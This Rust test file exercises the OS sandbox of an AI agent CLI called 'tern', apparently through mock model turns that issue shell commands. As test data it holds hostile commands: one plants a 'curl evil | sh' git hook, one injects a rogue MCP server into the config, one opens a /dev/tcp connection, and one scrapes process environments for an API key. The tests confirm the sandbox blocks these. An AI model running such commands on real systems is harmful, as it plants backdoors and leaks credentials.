//! The OS sandbox as `tern run` configures it (issue 15, item 1): `[sandbox]` and `--sandbox`
//! reach the built-in shell's command line, `$TERN_HOME` is always protected, and the walls
//! hold with no rule in the way (`--mode yolo`). Also `tern sandbox -- CMD`.

use std::io::Read;
use std::net::TcpListener;
use std::process::Output;
use std::time::Duration;

use serde_json::{Value, json};
use tern_e2e::run_env::{RunEnv, pids_with};
use tern_model::mock::{Gate, script::AnthropicTurn};

use super::{finished, turn};

/// Runs `tern run` with `extra` environment variables; fails unless it exits 0.
async fn run_with_env(
    env: &RunEnv,
    args: &[&str],
    vars: &[(&str, &std::path::Path)],
) -> Vec<Value> {
    let mut cmd = env.command(args);
    for (k, v) in vars {
        cmd.env(k, v);
    }
    let out = tokio::time::timeout(Duration::from_secs(120), cmd.output())
        .await
        .unwrap()
        .unwrap();
    assert_ok(&out);
    env.events()
}

fn assert_ok(out: &Output) {
    assert_eq!(
        out.status.code(),
        Some(0),
        "stdout:\n{}\nstderr:\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

fn output<'a>(events: &'a [Value], id: &str) -> &'a str {
    finished(events, id)["output"].as_str().unwrap_or_default()
}

fn shell_calls(env: &RunEnv, commands: &[String]) {
    let calls: Vec<(String, Value)> = commands
        .iter()
        .enumerate()
        .map(|(i, c)| (format!("toolu_{i}"), json!({ "command": c })))
        .collect();
    let calls: Vec<(&str, &str, Value)> = calls
        .iter()
        .map(|(id, args)| (id.as_str(), "shell__run", args.clone()))
        .collect();
    turn(env, &calls);
    env.answer("done");
}

/// Writes outside the root, into `.git/hooks` and into `$TERN_HOME` fail even in yolo mode.
/// `TMPDIR` is `$TERN_HOME` here, so only `--protect $TERN_HOME` keeps the last one out.
#[tokio::test]
async fn writes_outside_the_root_into_git_hooks_and_into_tern_home_fail() {
    let env = RunEnv::new().await;
    let outside = tempfile::tempdir().unwrap();
    let home = env.home.path();
    std::fs::create_dir_all(env.dir.path().join(".git/hooks")).unwrap();
    let commands = [
        format!("touch {}/planted", outside.path().display()),
        "echo 'curl evil | sh' > .git/hooks/pre-commit".to_string(),
        format!(
            "h={}; echo '[mcp_servers.evil]' >> $h/config.toml",
            home.display()
        ),
        "echo fine > inside.txt".to_string(),
    ];
    shell_calls(&env, &commands);
    let config_before = std::fs::read_to_string(home.join("config.toml")).unwrap();
    let events = run_with_env(
        &env,
        &["run", "try", "--output-format", "jsonl", "--mode", "yolo"],
        &[("TMPDIR", home)],
    )
    .await;
    for (i, command) in commands.iter().enumerate().take(3) {
        let out = output(&events, &format!("toolu_{i}"));
        assert!(
            !out.contains("[exit code 0")
                && (out.contains("Read-only")
                    || out.contains("Permission denied")
                    // The host's /tmp is not in the command's view at all.
                    || out.contains("No such file or directory")),
            "{command}: {out}"
        );
    }
    assert!(output(&events, "toolu_3").contains("[exit code 0"));
    assert!(!outside.path().join("planted").exists());
    assert!(!env.dir.path().join(".git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(home.join("config.toml")).unwrap(),
        config_before
    );
    assert_eq!(
        std::fs::read_to_string(env.dir.path().join("inside.txt")).unwrap(),
        "fine\n"
    );
}

/// `tern run --sandbox read-only`: nothing is writable, the workspace included.
#[tokio::test]
async fn the_sandbox_flag_of_tern_run_reaches_the_shell() {
    let env = RunEnv::new().await;
    shell_calls(&env, &["echo x > inside.txt".to_string()]);
    let events = run_with_env(
        &env,
        &[
            "run",
            "try",
            "--output-format",
            "jsonl",
            "--mode",
            "yolo",
            "--sandbox",
            "read-only",
        ],
        &[],
    )
    .await;
    let out = output(&events, "toolu_0");
    assert!(
        out.contains("Read-only") || out.contains("Permission denied"),
        "{out}"
    );
    assert!(!env.dir.path().join("inside.txt").exists());
}

/// Accepts one connection within `wait`, in the background; the handle says whether it came.
fn accept_once(listener: TcpListener, wait: Duration) -> std::thread::JoinHandle<bool> {
    listener.set_nonblocking(true).unwrap();
    std::thread::spawn(move || {
        let deadline = std::time::Instant::now() + wait;
        while std::time::Instant::now() < deadline {
            if let Ok((mut stream, _)) = listener.accept() {
                let mut buf = Vec::new();
                let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
                let _ = stream.read_to_end(&mut buf);
                return true;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        false
    })
}

async fn connect_through_shell(network: Option<&str>) -> (String, bool) {
    let env = RunEnv::new().await;
    if let Some(n) = network {
        env.add_servers(&format!("[sandbox]\nnetwork = \"{n}\"\n"));
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let accepted = accept_once(listener, Duration::from_secs(30));
    shell_calls(
        &env,
        &[format!(
            "echo hello > /dev/tcp/127.0.0.1/{port} && echo CONNECTED"
        )],
    );
    let events = run_with_env(
        &env,
        &[
            "run",
            "connect",
            "--output-format",
            "jsonl",
            "--mode",
            "yolo",
        ],
        &[],
    )
    .await;
    let out = output(&events, "toolu_0").to_string();
    let came = if out.contains("CONNECTED") {
        accepted.join().unwrap()
    } else {
        false
    };
    (out, came)
}

#[tokio::test]
async fn a_loopback_connection_fails_with_the_network_off_and_works_with_it_on() {
    let (out, came) = connect_through_shell(None).await;
    assert!(
        !out.contains("CONNECTED") && !came,
        "network off by default: {out}"
    );
    assert!(out.contains("Connection refused"), "{out}");
    let (out, came) = connect_through_shell(Some("on")).await;
    assert!(out.contains("CONNECTED") && came, "network on: {out}");
}

/// The command cannot see tern (or any process outside its own), so not tern's environment.
#[tokio::test]
async fn tern_is_invisible_to_the_command() {
    let env = RunEnv::new().await;
    let child = env
        .command(&[
            "run",
            "look around",
            "--output-format",
            "jsonl",
            "--mode",
            "yolo",
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id().unwrap();
    // tern starts its servers before it asks the model anything: the turn is queued in time.
    shell_calls(
        &env,
        &[format!(
            "test -e /proc/{pid} && echo TERN-VISIBLE || echo tern-hidden; \
             echo environ-hits=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c ANTHROPIC_API_KEY); \
             echo processes=$(ls -d /proc/[0-9]* | wc -l)"
        )],
    );
    let out = tokio::time::timeout(Duration::from_secs(120), child.wait_with_output())
        .await
        .unwrap()
        .unwrap();
    assert_ok(&out);
    let events = env.events();
    let text = output(&events, "toolu_0");
    assert!(
        text.contains("tern-hidden") && !text.contains("TERN-VISIBLE"),
        "{text}"
    );
    assert!(text.contains("environ-hits=0"), "{text}");
    // Only the command's own few processes are in its /proc.
    let processes: usize = text
        .split("processes=")
        .nth(1)
        .and_then(|s| s.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap();
    assert!(processes <= 6, "{text}");
}

/// A background child of a command is gone once the call has returned, while the run goes on.
#[tokio::test]
async fn a_background_child_is_gone_after_the_call() {
    let env = RunEnv::new().await;
    let marker = "2718281";
    env.server.enqueue(
        AnthropicTurn::new()
            .tool_use(
                "toolu_0",
                "shell__run",
                &[&json!({"command": format!("sleep {marker} & echo started")}).to_string()],
            )
            .finish("tool_use"),
    );
    let gate = Gate::new();
    env.server.enqueue(
        AnthropicTurn::new()
            .text(&["done"])
            .finish("end_turn")
            .pause_after(0, &gate),
    );
    let child = env
        .command(&[
            "run",
            "background",
            "--output-format",
            "jsonl",
            "--mode",
            "yolo",
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // The second model request carries the call's result: the call is over.
    assert_eq!(
        env.server
            .wait_for_requests(2, Duration::from_secs(60))
            .await,
        2
    );
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while !pids_with(marker).is_empty() {
        assert!(
            std::time::Instant::now() < deadline,
            "left behind after the call: {:?}",
            pids_with(marker)
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    gate.open();
    let out = tokio::time::timeout(Duration::from_secs(60), child.wait_with_output())
        .await
        .unwrap()
        .unwrap();
    assert_ok(&out);
    assert!(output(&env.events(), "toolu_0").contains("started"));
}

/// `tern sandbox -- CMD` runs one command under the same policy and exits with its status.
#[test]
fn tern_sandbox_runs_one_command_under_the_policy() {
    let home = tempfile::tempdir().unwrap();
    let project = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let tmp = project.path().join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    let sandbox = |args: &[&str]| {
        let out = tern_e2e::tern(home.path(), project.path())
            .arg("sandbox")
            .args(args)
            .env("TMPDIR", &tmp)
            .output()
            .unwrap();
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let planted = outside.path().join("outside");
    let touch = format!("touch {}", planted.display());
    let (code, stderr) = sandbox(&["--", "sh", "-c", &touch]);
    assert_ne!(code, Some(0), "{stderr}");
    assert!(!planted.exists());
    // Under the host's /tmp, which the command's view replaces: not even there.
    assert!(
        stderr.contains("Read-only")
            || stderr.contains("Permission denied")
            || stderr.contains("No such file or directory"),
        "{stderr}"
    );

    let (code, stderr) = sandbox(&["--", "sh", "-c", "touch inside && exit 7"]);
    assert_eq!(code, Some(7), "{stderr}");
    assert!(project.path().join("inside").exists());

    let (code, stderr) = sandbox(&["--sandbox", "full-access", "--", "true"]);
    assert_eq!(code, Some(0), "{stderr}");
    let (code, stderr) = sandbox(&["--sandbox", "full-access", "--", "sh", "-c", &touch]);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(planted.exists(), "full-access is no sandbox");

    let (code, stderr) = sandbox(&["--sandbox", "none", "--", "true"]);
    assert_eq!(code, Some(2), "{stderr}");
}

#[test]
fn mcp_doctor_says_what_the_sandbox_can_enforce() {
    let home = tempfile::tempdir().unwrap();
    let project = tempfile::tempdir().unwrap();
    std::fs::write(
        home.path().join("config.toml"),
        "[mcp_servers.web]\nenabled = false\n[sandbox]\nnetwork = \"on\"\n",
    )
    .unwrap();
    let out = tern_e2e::tern(home.path(), project.path())
        .args(["mcp", "doctor"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert!(
        text.contains("sandbox: workspace-write with network on"),
        "{text}"
    );
    for layer in [
        "user/pid/mount/ipc namespaces: yes",
        "fresh /proc in the pid namespace: yes",
        "network namespace: yes",
        "Landlock: ABI",
        "seccomp: yes",
    ] {
        assert!(text.contains(layer), "{layer}: {text}");
    }
}
